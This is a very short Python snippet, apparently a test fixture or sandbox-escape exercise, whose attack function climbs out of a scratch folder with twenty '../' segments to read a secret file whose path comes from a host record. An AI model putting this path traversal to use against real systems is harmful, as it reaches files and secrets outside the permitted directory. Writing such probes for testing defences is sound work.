"""A file by climbing out of the scratch folder."""


def attack(host):
    return read("../" * 20 + host["secret"].lstrip("/"))
